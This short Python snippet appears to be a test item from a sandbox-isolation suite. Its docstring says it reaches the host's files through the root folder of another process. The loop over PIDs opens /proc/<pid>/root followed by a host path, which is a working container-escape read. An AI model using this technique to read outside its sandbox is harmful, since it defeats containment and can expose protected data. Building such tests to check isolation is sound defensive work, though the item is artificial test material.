"""Reach the host's files through the root folder of another process.

category: reading
ends: ok
"""

for pid in [host.pid, *range(1, 5000)]:
    try:
        print(open(f"/proc/{pid}/root{host.key}").read())
        break
    except OSError:
        pass
